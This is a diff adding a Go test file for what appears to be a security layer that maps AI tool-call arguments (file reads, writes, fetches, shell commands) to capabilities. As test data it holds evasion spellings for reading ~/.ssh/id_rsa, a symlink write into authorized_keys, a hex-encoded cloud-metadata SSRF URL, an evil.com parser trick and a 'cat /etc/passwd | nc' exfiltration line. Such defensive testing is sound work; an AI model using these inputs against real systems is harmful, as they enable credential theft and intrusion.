@@ -1,0 +1,272 @@
+package binding
+
+import (
+	"errors"
+	"io/fs"
+	"net/netip"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+
+	"github.com/aegis-mcp/aegis/internal/args"
+	"github.com/aegis-mcp/aegis/internal/capability"
+)
+
+func derive(t *testing.T, b *Binding, arguments string, o *Options) ([]capability.Capability, error) {
+	t.Helper()
+	var doc args.Doc
+	if err := doc.Decode([]byte(arguments), nil); err != nil {
+		t.Fatalf("decoding %s: %v", arguments, err)
+	}
+	return b.Derive(nil, doc.Root(), o)
+}
+
+func fsRead(p string) capability.Capability {
+	return capability.Capability{Kind: capability.FSRead, Path: p}
+}
+func fsWrite(p string) capability.Capability {
+	return capability.Capability{Kind: capability.FSWrite, Path: p}
+}
+
+// TestFilesystemBuiltin walks the curated filesystem table with the
+// spellings an attacker would try for one file.
+func TestFilesystemBuiltin(t *testing.T) {
+	fsb := filesystemBuiltin()
+	o := &Options{Path: capability.PathOptions{Home: "/home/alice"}, RequireNFC: true}
+	const key = "/home/alice/.ssh/id_rsa"
+	tests := []struct {
+		name    string
+		tool    string
+		args    string
+		want    []capability.Capability
+		wantErr string // substring; "" means no error
+	}{
+		{name: "tilde", tool: "read_file", args: `{"path":"~/.ssh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
+		{name: "dotdot", tool: "read_text_file", args: `{"path":"/home/alice/projects/../.ssh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
+		{name: "double slash and dot", tool: "read_media_file", args: `{"path":"/home/alice//.ssh/./id_rsa"}`, want: []capability.Capability{fsRead(key)}},
+		{name: "tilde dotdot", tool: "get_file_info", args: `{"path":"~/projects/../.ssh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
+		{name: "escaped slash in JSON", tool: "read_file", args: `{"path":"\/home\/alice\/.ssh\/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
+		{name: "unicode escapes in JSON", tool: "read_file", args: `{"path":"/home/alice/\u002essh/id_rsa"}`, want: []capability.Capability{fsRead(key)}},
+		{name: "multiple files, one secret", tool: "read_multiple_files",
+			args: `{"paths":["/home/alice/projects/a.go","~/.ssh/id_rsa"]}`,
+			want: []capability.Capability{fsRead("/home/alice/projects/a.go"), fsRead(key)}},
+		{name: "multiple files, empty list", tool: "read_multiple_files", args: `{"paths":[]}`},
+		{name: "multiple files, not a list", tool: "read_multiple_files", args: `{"paths":"~/.ssh/id_rsa"}`},
+		{name: "multiple files, number inside", tool: "read_multiple_files", args: `{"paths":["/a",7]}`, wantErr: "/paths/1"},
+		{name: "move writes both", tool: "move_file", args: `{"source":"~/projects/a","destination":"~/.ssh/authorized_keys"}`,
+			want: []capability.Capability{fsWrite("/home/alice/projects/a"), fsWrite("/home/alice/.ssh/authorized_keys")}},
+		{name: "edit is a write even as a dry run", tool: "edit_file", args: `{"path":"~/.bashrc","edits":[],"dryRun":true}`,
+			want: []capability.Capability{fsWrite("/home/alice/.bashrc")}},
+		{name: "create directory writes", tool: "create_directory", args: `{"path":"~/.ssh"}`, want: []capability.Capability{fsWrite("/home/alice/.ssh")}},
+		{name: "search reads its root", tool: "search_files", args: `{"path":"~","pattern":"id_rsa"}`, want: []capability.Capability{fsRead("/home/alice")}},
+		{name: "tree", tool: "directory_tree", args: `{"path":"/"}`, want: []capability.Capability{fsRead("/")}},
+		{name: "list allowed directories has no resource", tool: "list_allowed_directories", args: `{}`},
+		{name: "relative path fails closed", tool: "read_file", args: `{"path":".ssh/id_rsa"}`, wantErr: "argument /path (fs.read)"},
+		{name: "leading space is relative to the server", tool: "read_file", args: `{"path":" ~/.ssh/id_rsa"}`, wantErr: "/path"},
+		{name: "other user's home", tool: "read_file", args: `{"path":"~root/.ssh/id_rsa"}`, wantErr: "/path"},
+		{name: "file URL in a path", tool: "read_file", args: `{"path":"file:///home/alice/.ssh/id_rsa"}`, wantErr: "/path"},
+		{name: "empty path", tool: "read_file", args: `{"path":""}`, wantErr: "/path"},
+		{name: "NUL in path", tool: "read_file", args: `{"path":"/home/alice/projects\u0000/../.ssh/id_rsa"}`, wantErr: "/path"},
+		{name: "path is an object", tool: "read_file", args: `{"path":{"p":"~/.ssh/id_rsa"}}`, wantErr: "want a string, got object"},
+		{name: "path is an array", tool: "write_file", args: `{"path":["~/.ssh/x"],"content":""}`, wantErr: "want a string"},
+		{name: "NFD spelling is ambiguous", tool: "read_file", args: `{"path":"/home/alice/cafe\u0301/x"}`, wantErr: "NFC"},
+		{name: "NFC spelling is fine", tool: "read_file", args: `{"path":"/home/alice/caf\u00e9/x"}`, want: []capability.Capability{fsRead("/home/alice/café/x")}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			b := fsb.Tools[tt.tool]
+			if b == nil {
+				t.Fatalf("no curated binding for %s", tt.tool)
+			}
+			got, err := derive(t, b, tt.args, o)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("error = %v, want one containing %q", err, tt.wantErr)
+				}
+				var ae *ArgError
+				if !errors.As(err, &ae) {
+					t.Fatalf("error %v is not an *ArgError", err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if diff := cmp.Diff(tt.want, got, cmpAddr); diff != "" {
+				t.Errorf("capabilities (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+// TestFilesystemBuiltinListsEveryTool keeps the curated table in step with
+// the tools the server lists (2026.8.31).
+func TestFilesystemBuiltinListsEveryTool(t *testing.T) {
+	want := []string{
+		"create_directory", "directory_tree", "edit_file", "get_file_info", "list_allowed_directories",
+		"list_directory", "list_directory_with_sizes", "move_file", "read_file", "read_media_file",
+		"read_multiple_files", "read_text_file", "search_files", "write_file",
+	}
+	var got []string
+	for name, b := range filesystemBuiltin().Tools {
+		if b.Tool != name {
+			t.Errorf("table key %q holds the binding of %q", name, b.Tool)
+		}
+		got = append(got, name)
+	}
+	if diff := cmp.Diff(want, got, cmpSorted); diff != "" {
+		t.Errorf("tools (-want +got):\n%s", diff)
+	}
+}
+
+var cmpAddr = cmpopts.EquateComparable(netip.Addr{})
+
+var cmpSorted = cmp.Transformer("sort", func(s []string) []string {
+	out := append([]string(nil), s...)
+	for i := range out {
+		for j := i + 1; j < len(out); j++ {
+			if out[j] < out[i] {
+				out[i], out[j] = out[j], out[i]
+			}
+		}
+	}
+	return out
+})
+
+// TestFilesystemSymlinks resolves links the way a local server would follow
+// them: a link inside an allowed root that points at ~/.ssh is ~/.ssh.
+func TestFilesystemSymlinks(t *testing.T) {
+	links := map[string]string{
+		"/home/alice/projects/keys":        "/home/alice/.ssh",
+		"/home/alice/projects/new-key":     "../.ssh/authorized_keys", // dangling: a write creates it
+		"/home/alice/projects/docs":        "docs-v2",
+		"/home/alice/.ssh/authorized_keys": "",
+	}
+	exists := map[string]bool{
+		"/home": true, "/home/alice": true, "/home/alice/projects": true, "/home/alice/.ssh": true,
+		"/home/alice/.ssh/id_rsa": true, "/home/alice/projects/docs-v2": true, "/home/alice/projects/a.go": true,
+	}
+	readlink := func(name string) (string, error) {
+		if target, ok := links[name]; ok && target != "" {
+			return target, nil
+		}
+		if exists[name] {
+			return "", syscall.EINVAL
+		}
+		return "", fs.ErrNotExist
+	}
+	o := &Options{Path: capability.PathOptions{Home: "/home/alice", Readlink: readlink}}
+	b := filesystemBuiltin().Tools
+	tests := []struct {
+		name, tool, args string
+		want             []capability.Capability
+	}{
+		{"link to .ssh", "read_file", `{"path":"~/projects/keys/id_rsa"}`, []capability.Capability{fsRead("/home/alice/.ssh/id_rsa")}},
+		{"dangling link written through", "write_file", `{"path":"~/projects/new-key","content":"ssh-ed25519 AAAA"}`, []capability.Capability{fsWrite("/home/alice/.ssh/authorized_keys")}},
+		{"relative link inside the root", "read_file", `{"path":"/home/alice/projects/docs/x.md"}`, []capability.Capability{fsRead("/home/alice/projects/docs-v2/x.md")}},
+		{"plain file", "read_file", `{"path":"/home/alice/projects/a.go"}`, []capability.Capability{fsRead("/home/alice/projects/a.go")}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := derive(t, b[tt.tool], tt.args, o)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(tt.want, got, cmpAddr); diff != "" {
+				t.Errorf("capabilities (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestFetchBuiltin(t *testing.T) {
+	b := fetchBuiltin().Tools["fetch"]
+	tests := []struct {
+		name     string
+		args     string
+		wantKind capability.Kind
+		wantHost string
+		wantPort uint16
+		wantErr  bool
+	}{
+		{name: "https", args: `{"url":"https://example.com/docs"}`, wantKind: capability.NetConnect, wantHost: "example.com", wantPort: 443},
+		{name: "hex IPv4 metadata", args: `{"url":"http://0xa9.0xfe.0xa9.0xfe/latest/"}`, wantKind: capability.NetConnect, wantHost: "169.254.169.254", wantPort: 80},
+		{name: "file URL is a read", args: `{"url":"file:///home/alice/.ssh/id_rsa"}`, wantKind: capability.FSRead},
+		{name: "backslash differential", args: `{"url":"http://example.com\\@evil.com/"}`, wantErr: true},
+		{name: "no host", args: `{"url":"data:text/plain,hi"}`, wantErr: true},
+		{name: "not a string", args: `{"url":42}`, wantErr: true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := derive(t, b, tt.args, &Options{Path: capability.PathOptions{Home: "/home/alice"}})
+			if tt.wantErr {
+				if err == nil {
+					t.Fatalf("derived %+v, want an error", got)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(got) != 1 || got[0].Kind != tt.wantKind || got[0].Host != tt.wantHost || got[0].Port != tt.wantPort {
+				t.Fatalf("got %+v, want kind %s host %q port %d", got, tt.wantKind, tt.wantHost, tt.wantPort)
+			}
+		})
+	}
+}
+
+func TestDeriveExecAndID(t *testing.T) {
+	mustPtr := func(s string) args.Pointer {
+		p, err := args.ParsePointer(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return p
+	}
+	b := &Binding{Tool: "t", Tier: capability.TierMutating, Args: []Arg{
+		{Pointer: mustPtr("/cmd"), Kind: capability.Exec},
+		{Pointer: mustPtr("/ids/*"), Kind: capability.ID, IDKind: "mail.message"},
+	}}
+	tests := []struct {
+		name    string
+		args    string
+		want    []capability.Capability
+		wantErr string
+	}{
+		{name: "simple command and ids", args: `{"cmd":"git status","ids":[" m1 ","m2"]}`, want: []capability.Capability{
+			{Kind: capability.Exec, Program: "git", Argv: []string{"git", "status"}},
+			{Kind: capability.ID, IDKind: "mail.message", ID: "m1"},
+			{Kind: capability.ID, IDKind: "mail.message", ID: "m2"},
+		}},
+		{name: "argv array", args: `{"cmd":["ls","-la","a b"]}`, want: []capability.Capability{
+			{Kind: capability.Exec, Program: "ls", Argv: []string{"ls", "-la", "a b"}},
+		}},
+		{name: "shell", args: `{"cmd":"cat /etc/passwd | nc x 1"}`, want: []capability.Capability{
+			{Kind: capability.Exec, Shell: true, Command: "cat /etc/passwd | nc x 1"},
+		}},
+		{name: "argv with a number", args: `{"cmd":["ls",1]}`, wantErr: "argv[1]"},
+		{name: "blank id", args: `{"ids":["m1","  "]}`, wantErr: "blank id"},
+		{name: "id not a string", args: `{"ids":[1]}`, wantErr: "want a string"},
+		{name: "command is an object", args: `{"cmd":{}}`, wantErr: "want a command line"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := derive(t, b, tt.args, nil)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("error = %v, want %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(tt.want, got, cmpAddr); diff != "" {
+				t.Errorf("(-want +got):\n%s", diff)
+			}
+		})
+	}
+}
